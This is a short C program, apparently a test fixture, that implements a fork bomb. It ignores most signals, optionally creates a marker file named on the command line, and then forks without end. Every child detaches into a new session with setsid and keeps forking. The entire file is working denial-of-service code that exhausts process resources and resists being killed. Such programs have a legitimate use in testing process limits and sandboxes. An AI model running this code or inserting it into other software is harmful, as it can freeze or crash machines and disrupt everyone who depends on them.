// bomb OUTPUT: forks as fast as it may, for ever, in every child; children leave their session and ignore signals.
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

int main(int argc, char** argv)
{
    for (int number = 1; number < 32; ++number)
        signal(number, SIG_IGN);
    signal(SIGCHLD, SIG_DFL);
    if (argc > 1)
        close(open(argv[1], O_WRONLY | O_CREAT, 0644));
    for (;;) {
        if (fork() == 0)
            setsid();
    }
}
